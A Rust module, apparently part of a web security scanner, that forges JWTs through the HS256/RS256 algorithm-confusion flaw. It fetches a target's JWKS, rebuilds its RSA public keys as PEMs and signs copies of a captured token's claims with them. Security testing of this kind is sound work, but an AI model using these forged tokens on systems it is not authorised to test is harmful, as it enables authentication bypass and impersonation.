//! The HS256/RS256 algorithm confusion: a server that verifies with "the key" whatever
//! `alg` says will check an HS256 token against its RSA public key used as an HMAC secret.
//! The public key is public (a JWKS URL), so anyone can mint such tokens. Here: fetch the
//! JWKS from the target's own host, rebuild each RSA key's PEM the way common libraries
//! print it, and sign a copy of A's claims with it.

use base64::Engine as _;
use reqwest::Method;
use serde_json::{Map, Value};

use crate::probe::Probe;

/// Where JWKS documents are usually served.
const JWKS_PATHS: &[&str] = &[
    "/.well-known/jwks.json",
    "/jwks.json",
    "/.well-known/openid-configuration",
    "/oauth/jwks",
    "/api/jwks",
    "/auth/jwks",
];

fn der_len(n: usize, out: &mut Vec<u8>) {
    match n {
        0..=127 => out.push(u8::try_from(n).unwrap_or(0)),
        128..=255 => out.extend([0x81, u8::try_from(n).unwrap_or(0)]),
        _ => out.extend([
            0x82,
            u8::try_from(n >> 8).unwrap_or(0),
            u8::try_from(n & 0xff).unwrap_or(0),
        ]),
    }
}

fn der(tag: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    der_len(body.len(), &mut out);
    out.extend_from_slice(body);
    out
}

fn der_uint(bytes: &[u8]) -> Vec<u8> {
    let trimmed: &[u8] = {
        let first = bytes
            .iter()
            .position(|b| *b != 0)
            .unwrap_or(bytes.len().saturating_sub(1));
        &bytes[first..]
    };
    let mut body = Vec::with_capacity(trimmed.len() + 1);
    if trimmed.first().is_some_and(|b| b & 0x80 != 0) {
        body.push(0);
    }
    body.extend_from_slice(trimmed);
    der(0x02, &body)
}

fn pem(label: &str, der: &[u8]) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(der);
    let mut out = format!("-----BEGIN {label}-----\n");
    for line in b64.as_bytes().chunks(64) {
        out.push_str(&String::from_utf8_lossy(line));
        out.push('\n');
    }
    out.push_str("-----END ");
    out.push_str(label);
    out.push_str("-----\n");
    out
}

/// The PEM forms of an RSA JWK (`n`, `e`): SubjectPublicKeyInfo (`PUBLIC KEY`, what
/// OpenSSL and Python's `cryptography` print) and PKCS#1 (`RSA PUBLIC KEY`), each with
/// and without the final newline.
pub fn rsa_pems(n_b64: &str, e_b64: &str) -> Option<Vec<String>> {
    let dec = |s: &str| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(s.trim_end_matches('='))
            .ok()
    };
    let (n, e) = (dec(n_b64)?, dec(e_b64)?);
    let mut seq = der_uint(&n);
    seq.extend(der_uint(&e));
    let pkcs1 = der(0x30, &seq);
    let mut alg = vec![
        0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00,
    ];
    alg = der(0x30, &alg);
    let mut bits = vec![0u8];
    bits.extend_from_slice(&pkcs1);
    let mut spki = alg;
    spki.extend(der(0x03, &bits));
    let spki = der(0x30, &spki);
    let mut out = Vec::new();
    for p in [pem("PUBLIC KEY", &spki), pem("RSA PUBLIC KEY", &pkcs1)] {
        out.push(p.trim_end().to_owned());
        out.push(p);
    }
    Some(out)
}

async fn fetch_json(p: &Probe, path: &str) -> Option<Value> {
    let ex = p
        .anon(p.request("discovery", Method::GET, path))
        .await
        .ok()?;
    (ex.response.ok() && !p.not_found.matches(&ex.response))
        .then(|| ex.response.json())
        .flatten()
}

/// The RSA keys the target publishes (`n`, `e`), from the first JWKS found on its host.
pub async fn rsa_keys(p: &Probe) -> Vec<(String, String)> {
    for path in JWKS_PATHS {
        let Some(mut doc) = fetch_json(p, path).await else {
            continue;
        };
        if let Some(uri) = doc.get("jwks_uri").and_then(Value::as_str) {
            let Ok(url) = url::Url::parse(uri) else {
                continue;
            };
            if url.host_str() != p.base.host_str() {
                continue; // only the target's own host is ever contacted
            }
            let Some(next) = fetch_json(p, url.path()).await else {
                continue;
            };
            doc = next;
        }
        let keys: Vec<(String, String)> = doc
            .get("keys")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter(|k| k.get("kty").and_then(Value::as_str) == Some("RSA"))
            .filter_map(|k| {
                Some((
                    k.get("n")?.as_str()?.to_owned(),
                    k.get("e")?.as_str()?.to_owned(),
                ))
            })
            .collect();
        if !keys.is_empty() {
            return keys;
        }
    }
    Vec::new()
}

/// HS256 copies of `token` (its claims, its `kid`) signed with each PEM form of each key.
pub fn confused(token: &str, keys: &[(String, String)]) -> Vec<String> {
    let Ok(jwt) = spillcheck_tokens::jwt::Jwt::decode(token) else {
        return Vec::new();
    };
    let mut header = Map::new();
    header.insert("alg".into(), Value::from("HS256"));
    header.insert("typ".into(), Value::from("JWT"));
    if let Some(kid) = jwt.header.get("kid") {
        header.insert("kid".into(), kid.clone());
    }
    keys.iter()
        .filter_map(|(n, e)| rsa_pems(n, e))
        .flatten()
        .filter_map(|pem| spillcheck_tokens::jwt::sign_hmac(&header, &jwt.claims, pem.as_bytes()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rsa_jwk_to_the_pem_openssl_prints() {
        // `openssl rsa -pubout` of a 1024-bit key, and the same key's JWK.
        let openssl = "-----BEGIN PUBLIC KEY-----\nMIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQCxKpx32nlNsKvrPcsxL++HeWuz\nmpeoU6JG18uuiWrRVwY+oaKWHHyAmRHFSJXAp3ejmtL27yZM2EUL+JNlmQJSrECk\nygpsUF0zY3piLVp2bwl3eYaDySK0hl6j0wJldIe+Ucmr7QB5S0UjyPw30gWYoO2+\nAYqSHo+tC2m56l47SwIDAQAB\n-----END PUBLIC KEY-----\n";
        let n = "sSqcd9p5TbCr6z3LMS_vh3lrs5qXqFOiRtfLrolq0VcGPqGilhx8gJkRxUiVwKd3o5rS9u8mTNhFC_iTZZkCUqxApMoKbFBdM2N6Yi1adm8Jd3mGg8kitIZeo9MCZXSHvlHJq-0AeUtFI8j8N9IFmKDtvgGKkh6PrQtpuepeO0s";
        let pems = rsa_pems(n, "AQAB").unwrap();
        assert_eq!(pems[1], openssl);
        assert_eq!(pems[0], openssl.trim_end());
        assert!(pems[3].starts_with("-----BEGIN RSA PUBLIC KEY-----\nMIGJAoGBALEq"));
        assert!(rsa_pems("!!", "AQAB").is_none());
    }
}
